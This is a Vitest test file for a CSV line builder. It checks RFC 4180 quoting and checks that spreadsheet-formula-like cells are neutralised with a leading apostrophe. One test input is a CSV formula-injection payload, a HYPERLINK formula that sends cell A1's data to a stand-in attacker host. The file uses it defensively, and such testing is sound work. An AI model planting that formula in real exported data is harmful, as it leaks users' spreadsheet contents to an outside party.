import { describe, expect, it } from 'vitest';
import { csvLine } from './csv-line.js';

describe('csvLine', () => {
  it('when cells hold commas, quotes or newlines then they are quoted as RFC 4180 says', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'a\r\nb', 'plain', null, 5, true])).toBe('"a,b","say ""hi""","two\nlines","a\r\nb",plain,,5,true');
  });

  it('when a cell holds a semicolon then it is quoted whichever the separator, so a reader splitting on ";" (Excel in Italian) keeps it whole', () => {
    expect(csvLine(['=SUM(A1) test; script', 'a;b', 'x, y', 'plain', -3], ',')).toBe(`"'=SUM(A1) test; script","a;b","x, y",plain,-3`);
    expect(csvLine(['=SUM(A1) test; script', 'a;b', 'x, y', 'plain', -3], ';')).toBe(`"'=SUM(A1) test; script";"a;b";"x, y";plain;-3`);
  });

  it('when a text starts like a spreadsheet formula then it gets a leading apostrophe, and numbers stay numbers', () => {
    const cells = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', 'ERP = production', -500, 0];
    expect(csvLine(cells)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+1+1,'-2+3,'@SUM(A1),'\t=1,ERP = production,-500,0`);
  });
});
